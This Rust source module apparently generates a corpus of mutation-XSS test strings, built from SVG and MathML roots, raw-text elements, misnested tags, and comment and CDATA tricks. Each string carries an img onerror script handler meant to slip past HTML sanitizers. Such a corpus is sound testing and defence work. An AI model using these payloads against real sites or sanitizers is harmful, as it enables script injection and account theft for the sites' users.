//! HTML that a browser reads otherwise the second time, after a first reader has written it out: roots of other languages,
//! elements whose content is text in one language and elements in the other, and elements that are moved.

use crate::script;

const ROOTS: [&str; 10] = [
    "<svg>",
    "<math>",
    "<svg><desc>",
    "<svg><foreignObject>",
    "<svg><title>",
    "<math><mtext>",
    "<math><mi>",
    "<math><annotation-xml>",
    "<math><annotation-xml encoding=text/html>",
    "<form><math><mtext></form><form><mglyph>",
];

const MIDDLES: [&str; 9] = [
    "",
    "<table>",
    "<p>",
    "<a><b>",
    "<mglyph>",
    "<malignmark>",
    "<select>",
    "<table><caption>",
    "<form><button>",
];

/// Elements whose content is text.
const TEXTS: [&str; 8] = ["style", "title", "textarea", "noscript", "xmp", "noembed", "noframes", "iframe"];

/// Moved or closed by what follows.
const TANGLES: [&str; 20] = [
    "<a href=/1><p><a href=/2><img src=x onerror=~></p></a>",
    "<b><p><button><b><img src=x onerror=~></p></b>",
    "<table><a href=/1><tr><td></a><img src=x onerror=~></table>",
    "<p><table><tr></p><img src=x onerror=~><td>",
    "<svg></p><style><a id=\"</style><img src=x onerror=~>\">",
    "<math></br><style><a id='</style><img src=x onerror=~>'>",
    "<form id=a><form><div></form><svg><style><img title='</style><img src=x onerror=~>'>",
    "<template><style></template><img src=x onerror=~>",
    "<select><template><style></select><img src=x onerror=~>",
    "<noscript><!--</noscript><img src=x onerror=~>-->",
    "<!--><img src=x onerror=~>-->",
    "<!---><img src=x onerror=~>-->",
    "<!--a--!><img src=x onerror=~>-->",
    "<![CDATA[><img src=x onerror=~>]]>",
    "<svg><![CDATA[><img src=x onerror=~>]]></svg>",
    "<?xml ><img src=x onerror=~ ?>",
    "<ul><li><ul></li><img src=x onerror=~>",
    "<dl><dt><dd><dl></dd><img src=x onerror=~>",
    "<ruby><rt><rp></ruby><img src=x onerror=~>",
    "<h1><h2></h1><img src=x onerror=~>",
];

pub(crate) fn all() -> Vec<String> {
    let mut all = Vec::new();
    for (of, root) in ROOTS.iter().enumerate() {
        for (at, middle) in MIDDLES.iter().enumerate() {
            for (number, text) in TEXTS.iter().enumerate().filter(|(number, _)| (of + at + number) % 2 == 0) {
                let run = script(of + at + number);
                let hidden = match (of + number) % 3 {
                    0 => format!("<a title=\"</{text}><img src=x onerror={run}>\">"),
                    1 => format!("<!--</{text}><img src=x onerror={run}>-->"),
                    _ => format!("<img alt='</{text}&gt;&lt;img src=x onerror={run}&gt;'>"),
                };
                all.push(format!("{root}{middle}<{text}>{hidden}</{text}>"));
            }
        }
    }
    all.extend(TANGLES.iter().enumerate().map(|(at, tangle)| tangle.replace('~', script(at))));
    all
}
